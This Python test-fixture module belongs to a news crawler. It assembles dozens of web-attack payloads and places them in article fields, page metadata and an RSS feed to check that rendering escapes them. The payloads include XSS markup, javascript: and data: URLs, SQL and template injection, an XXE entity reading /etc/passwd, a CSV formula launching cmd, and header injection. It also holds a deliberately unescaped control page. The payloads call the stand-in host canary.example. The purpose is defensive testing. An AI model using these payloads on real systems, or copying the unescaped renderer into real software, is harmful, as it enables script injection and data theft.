"""Hostile articles: what somebody who writes a page or a feed could put in to run in its readers' browsers.

As Articles, put straight into a store (an older or another writer may have put anything there), and as a site
of pages and a feed, to be crawled. Whatever of it runs sets `window.__pwned` or asks CANARY for something.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from html import escape
from typing import Any

from newsserver import Answer, NewsServer, paragraphs
from plans import due_at

from pipelines.items import Article, Link, Outcome, Visit
from pipelines.store import Store

CANARY = "canary.example"
NOW = datetime(2026, 11, 24, 12, tzinfo=UTC)
SOURCE = "hostile"
# A word of every hostile article, and of no other.
WORD = "hostilearticle"


def script(name: str) -> str:
    """What a payload does when it runs: leaves a mark, asks the canary, opens a dialog."""
    return f"window.__pwned='{name}';new Image().src='http://{CANARY}/{name}';alert('{name}')"


@dataclass(frozen=True)
class Vector:
    """`fields` are an article's; `runs`: a page that writes its fields out as they are would run it at once."""

    name: str
    fields: dict[str, Any] = field(repr=False)
    runs: bool = False


def _markup() -> dict[str, str]:
    """Markup that runs a script by itself where it is written out as it stands."""

    def js(name: str) -> str:
        return script(name).replace('"', "&quot;")

    return {
        "script-tag": f"<script>{script('script-tag')}</script>",
        "script-case": f"<ScRiPt>{script('script-case')}</sCrIpT>",
        "script-slash": f"<script/x>{script('script-slash')}</script>",
        "script-unclosed": f"<script>{script('script-unclosed')}//",
        "img-onerror": f'<img src=x onerror="{js("img-onerror")}">',
        "img-backtick": f'<img src=`x` onerror="{js("img-backtick")}">',
        "img-newline": f'<img\nsrc=x\nonerror\n=\n"{js("img-newline")}">',
        "svg-onload": f'<svg onload="{js("svg-onload")}"></svg>',
        "svg-script": f"<svg><script>{script('svg-script')}</script></svg>",
        "svg-animate": f'<svg><animate onbegin="{js("svg-animate")}" attributeName=x dur=1s></svg>',
        "math-img": f'<math><mtext><img src=x onerror="{js("math-img")}"></mtext></math>',
        "body-onload": f'<body onload="{js("body-onload")}">',
        "iframe-srcdoc": f'<iframe srcdoc="<script>parent.{js("iframe-srcdoc")}</script>"></iframe>',
        "iframe-javascript": f'<iframe src="javascript:parent.{js("iframe-javascript")}"></iframe>',
        "details-toggle": f'<details open ontoggle="{js("details-toggle")}">x</details>',
        "input-autofocus": f'<input autofocus onfocus="{js("input-autofocus")}">',
        "video-source": f'<video><source onerror="{js("video-source")}" src=x></video>',
        "audio-src": f'<audio src=x onerror="{js("audio-src")}"></audio>',
        "object-data": f'<object data="http://{CANARY}/object-data"></object>',
        "embed-src": f'<embed src="http://{CANARY}/embed-src">',
        "link-css": f'<link rel="stylesheet" href="http://{CANARY}/link-css">',
        "style-import": f"<style>@import url(http://{CANARY}/style-import);</style>",
        "style-background": f'<p style="background:url(http://{CANARY}/style-background)">x</p>',
        "style-element": f"<style>body{{background:url(http://{CANARY}/style-element)}}</style>",
        "img-remote": f'<img src="http://{CANARY}/img-remote">',
        "img-srcset": f'<img srcset="http://{CANARY}/img-srcset 2x">',
        "attribute-double": f'"><img src=x onerror="{js("attribute-double")}">',
        "attribute-single": f"'><img src=x onerror='{script('attribute-single').replace(chr(39), '&#39;')}'>",
        "title-breaker": f"</title><script>{script('title-breaker')}</script>",
        "textarea-breaker": f"</textarea><script>{script('textarea-breaker')}</script>",
        "noscript-breaker": f"<noscript><p title='</noscript><img src=x onerror=\"{js('noscript-breaker')}\">'>",
        "comment-breaker": f"--><script>{script('comment-breaker')}</script><!--",
        "comment-bang": f"--!><script>{script('comment-bang')}</script>",
        "cdata-breaker": f"]]><script>{script('cdata-breaker')}</script><![CDATA[",
        "json-breaker": f'"}}</script><script>{script("json-breaker")}</script>',
        "style-breaker": f"</style><script>{script('style-breaker')}</script>",
        "meta-refresh": f'<meta http-equiv="refresh" content="0;url=http://{CANARY}/meta-refresh">',
        "base-href": f'<base href="http://{CANARY}/base-href/"><img src="x">',
    }


def _quiet() -> dict[str, str]:
    """What needs a click, another parser or a second decoding, or spoils what is shown."""
    return {
        "entities-once": escape(f"<script>{script('entities-once')}</script>"),
        "entities-twice": escape(escape(f"<img src=x onerror={script('entities-twice')}>")),
        "entities-numeric": "".join(
            f"&#{ord(one)};" for one in f"<script>{script('entities-numeric')}</script>"
        ),
        "template-jinja": "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} {# x #}",
        "template-dollar": "${7*7} #{7*7} <%= 7*7 %> @(7*7) *{7*7}",
        "template-percent": "%(title)s %s %n %x {0.__class__} {title!r}",
        "mark-tags": f'\x02<mark>x</mark>\x03 <mark onmouseover="{script("mark-tags")}">x</mark>',
        "rtl-override": "invoice \u202etxt.exe\u202c and \u2066isolated\u2069 \u200bzero\u200cwidth\u200d\ufeff",
        "rtl-unclosed": "\u202e\u2067\u202b never closed " * 20,
        "combining": "Z" + "\u0351\u0321\u0489" * 300 + " algo",
        "long-word": "Donaudampfschiff" * 120,
        "long-cjk": "滨江新闻" * 800,
        "nul": "a\x00b\x00<script\x00>window.__pwned='nul'</script>",
        "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f\ufffe\uffff",
        "surrogate-like": "\\ud83d \\u0000 &#xD800; &#0; &#x110000;",
        "line-separators": "first\u2028second\u2029third\x85fourth",
        "js-strings": "';alert(1);// \";alert(1);// `;${alert(1)} \\';alert(1);//",
        "sql": "'; DROP TABLE articles;-- \" OR 1=1 UNION SELECT sql FROM sqlite_master",
        "fts": '" OR NEAR( * ^title: {title text}: ) NOT AND "',
        "csv-formula": '=HYPERLINK("http://canary.example/csv";"x") +cmd|\' /C calc\'!A0 @SUM(1) -1+1',
        "xml-entity": "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e; <?xml version='1.1'?><?php x?>",
        "xml-cdata": "<![CDATA[ ]]> ]]]]><![CDATA[> &amp;lt; &unknown; <xhtml:script>",
        "header-break": f"x\r\nSet-Cookie: pwned=1\r\nLocation: http://{CANARY}/header-break\r\n\r\n<script>",
        "ansi": "\x1b[31mred\x1b]0;title\x07\x1b[2J",
        "markdown": f"[x](javascript:{script('markdown')}) ![x](http://{CANARY}/markdown)",
    }


# Addresses that must not become links or pictures as they stand.
ADDRESSES = {
    "javascript": f"javascript:{script('javascript')}",
    "javascript-case": f"JaVaScRiPt:{script('javascript-case')}",
    "javascript-tab": f"java\tscript:{script('javascript-tab')}",
    "javascript-newline": f"java\nscript:{script('javascript-newline')}",
    "javascript-entity": f"javascript&colon;{script('javascript-entity')}",
    "javascript-numeric": f"&#106;avascript:{script('javascript-numeric')}",
    "javascript-space": f" \x01javascript:{script('javascript-space')}",
    "javascript-slashes": f"javascript://n.example/%0a{script('javascript-slashes')}",
    "vbscript": "vbscript:msgbox(1)",
    "data-html": f"data:text/html,<script>{script('data-html')}</script>",
    "data-base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-svg": f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=\"{script('data-svg')}\"/>",
    "blob": "blob:http://n.example/x",
    "file": "file:///etc/passwd",
    "protocol-relative": f"//{CANARY}/protocol-relative",
    "quote-breaker": f'http://n.example/"onmouseover="{script("quote-breaker")}" x="',
    "tag-breaker": f'http://n.example/"><script>{script("tag-breaker")}</script>',
    "header-break": f"http://n.example/%0d%0aSet-Cookie:pwned=1\r\nLocation: http://{CANARY}/header-break",
    "userinfo": f"http://n.example@{CANARY}/userinfo",
    "backslashes": f"http:\\\\{CANARY}\\backslashes",
}

_EVERYWHERE = (
    "title",
    "description",
    "text",
    "section",
    "language",
    "license",
    "agency",
    "extractor",
    "discovered_via",
)


def _vectors() -> list[Vector]:
    found = []
    for name, markup in {**_markup(), **_quiet()}.items():
        fields = dict.fromkeys(_EVERYWHERE, markup)
        fields |= {"authors": (markup, f"A {markup}"), "tags": (markup, markup[:40])}
        fields |= {
            "url": f"http://n.example/{name}?x={markup}",
            "image_url": f"http://{CANARY}/picture-{name}",
        }
        found.append(Vector(name, fields, runs=name in _markup()))
    for name, address in ADDRESSES.items():
        fields = {"title": f"Address {name}", "url": address, "image_url": address, "tdm_policy": address}
        fields |= {"license": address, "discovered_via": address, "text": f"See {address} for more."}
        found.append(Vector(f"address-{name}", fields))
    return found


VECTORS = tuple(_vectors())


def article_of(vector: Vector, number: int) -> Article:
    """The article as it is handed to the store. All have WORD in title and text, and are years apart in nothing."""
    at = NOW - timedelta(minutes=7 * number)
    fields = {"title": f"x {vector.name}", "text": "", **vector.fields}
    fields["title"] = f"{fields['title']} {WORD} {number}"
    fields["text"] = f"{fields['text']}\n\n{WORD} {number}\n\n" + "\n\n".join(paragraphs(number))
    fields.setdefault("authors", ())
    return Article(
        id="",
        source=SOURCE,
        domain="n.example",
        published_at=at,
        first_seen_at=at,
        last_seen_at=at,
        url_canonical=f"http://n.example/{number}/{fields['url']}",
        **fields,
    )


def fill(store: Store) -> None:
    """Put them all into the store, as a writer that checks nothing would; each gets a second, hostile revision."""
    name = SOURCE
    store.sync_source(name, "http://n.example/", configured=True, enabled=True, roots=(), now=NOW)
    for number, vector in enumerate(VECTORS):
        link = Link(url=f"http://n.example/{number}")
        store.add_targets(name, [link], via="http://n.example/", depth=0, now=NOW)
        target = store.target(link.url)
        assert target is not None
        article = article_of(vector, number)
        visit = store.end_visit(
            Visit(target=target, started_at=NOW, ended_at=NOW, article=article), plan=due_at(None)
        )
        assert visit.outcome is Outcome.STORED, (vector.name, visit.outcome, visit.reason)


# --- the same as a site ------------------------------------------------------------------------------------


def page_of(vector: Vector, number: int) -> str:
    """An article's page that says all this, escaped as a careful (and hostile) publisher would."""
    article = article_of(vector, number)
    metas = {
        "og:title": article.title,
        "og:description": article.description or "",
        "article:section": article.section or "",
        "author": article.authors[0] if article.authors else "",
        "og:image": article.image_url or "",
        "article:tag": article.tags[0] if article.tags else "",
    }
    head = "".join(
        f'<meta property="{escape(name)}" name="{escape(name)}" content="{escape(value)}">'
        for name, value in metas.items()
    )
    text = "".join(f"<p>{escape(line)}</p>" for line in article.text.split("\n\n"))
    return (
        f"<!doctype html><html lang=en><head><title>{escape(article.title)}</title>{head}"
        f'<link rel="license" href="{escape(article.license or "")}">'
        f'<meta property="article:published_time" content="{NOW.isoformat()}"></head>'
        f"<body><main><article><h1>{escape(article.title)}</h1>{text}</article></main></body></html>"
    )


def path_of(number: int) -> str:
    return f"/2026/11/24/hostile-report-number-{number}"


def hostile_site() -> NewsServer:
    """A site whose feed names all of them, its guids and titles hostile, and every hostile address as a link."""
    site = NewsServer()
    for number, vector in enumerate(VECTORS):
        site.pages[path_of(number)] = page_of(vector, number)
    site.pages["/robots.txt"] = Answer("User-agent: *\nDisallow:\n", type="text/plain")
    site.pages["/feed/"] = _feed
    site.pages["/"] = (
        "<!doctype html><title>Hostile</title><link rel=alternate type=application/rss+xml href=/feed/>"
    )
    return site


def _feed(site: NewsServer) -> Answer:
    items = [
        (f"{site.url}{path_of(number)}", article_of(vector, number).title)
        for number, vector in enumerate(VECTORS)
    ]
    items += [(address, f"Link {name}") for name, address in ADDRESSES.items()]
    text = "".join(
        f"<item><title>{_xml(title)}</title><link>{_xml(url)}</link><guid isPermaLink='false'>{_xml(title)}</guid></item>"
        for url, title in items
    )
    feed = (
        f"<rss version='2.0'><channel><title>{_xml(VECTORS[0].fields['title'])}</title>{text}</channel></rss>"
    )
    return Answer(feed, type="application/rss+xml; charset=utf-8")


def _xml(text: str) -> str:
    return escape("".join(one for one in text if one in "\t\n" or " " <= one < "\ufffe"))


def vulnerable(vector: Vector) -> str:
    """The control: a page that writes everything out as it stands, as no page of ours may."""
    fields = vector.fields
    return (
        f"<!doctype html><title>{fields['title']}</title><h1>{fields['title']}</h1>"
        f'<a id=link href="{fields["url"]}">original</a><div>{fields["text"]}</div><script></script>'
    )
